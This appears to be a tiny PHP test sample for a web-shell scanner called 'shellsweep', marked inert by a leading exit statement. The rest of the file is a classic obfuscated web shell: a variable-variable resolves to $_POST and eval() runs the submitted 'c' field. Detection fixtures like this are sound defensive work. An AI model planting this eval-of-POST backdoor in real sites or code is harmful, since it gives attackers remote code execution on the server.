<?php exit; /* shellsweep test sample: inert, never functional */ ?>
<?php
$n = '_POST';
$in = $$n;
eval($in['c']);
